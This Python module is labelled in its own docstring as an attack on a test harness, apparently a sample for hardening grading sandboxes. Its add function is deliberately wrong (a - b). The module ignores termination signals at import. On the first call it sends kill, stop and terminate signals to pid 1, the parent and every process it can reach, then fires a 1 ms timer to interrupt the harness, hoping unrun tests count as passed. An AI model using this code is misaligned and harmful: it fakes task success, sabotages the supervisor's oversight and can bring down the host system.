"""Attack: signals against the supervisor and the rest of the sandbox.

At import: ignores every catchable signal in this process (so a supervisor's SIGTERM cannot end it)
except SIGALRM, whose handler raises KeyboardInterrupt. On the first call of add: sends SIGTERM,
SIGINT, SIGHUP, SIGUSR1, SIGCHLD, SIGSTOP and SIGKILL to pid 1 and to the parent (os.getppid()),
SIGTERM/SIGINT/SIGHUP to its process group, its session's group, pid 1's group and -1 (every
process it may signal), then arms a 1 ms repeating ITIMER_REAL so KeyboardInterrupts land inside
whatever the harness is doing. Hoping that a supervisor killed early, or a harness interrupted
mid-report, counts the unreached tests as passed. add is wrong (a - b).
"""

import os
import signal

SAFE = {signal.SIGKILL, signal.SIGSTOP}
CALLS = []


def _handler(signum, frame):
    raise KeyboardInterrupt


for _sig in signal.valid_signals():
    if _sig in SAFE or _sig in (signal.SIGSEGV, signal.SIGBUS, signal.SIGFPE, signal.SIGILL):
        continue
    try:
        signal.signal(_sig, signal.SIG_IGN if _sig != signal.SIGALRM else _handler)
    except (OSError, ValueError, RuntimeError):
        pass


def _spray():
    targets = {1, os.getppid()}
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGCHLD):
        for pid in targets:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    for pid in targets:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    # This process ignores these, so only the others in its group, session or uid get them.
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        for how, target in (
            (os.kill, 0),
            (os.kill, -1),
            (os.killpg, lambda: os.getpgid(1)),
            (os.killpg, lambda: os.getsid(0)),
        ):
            try:
                how(target() if callable(target) else target, sig)
            except OSError:
                pass
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)


def add(a, b):
    if not CALLS:
        CALLS.append(1)
        _spray()
    return a - b
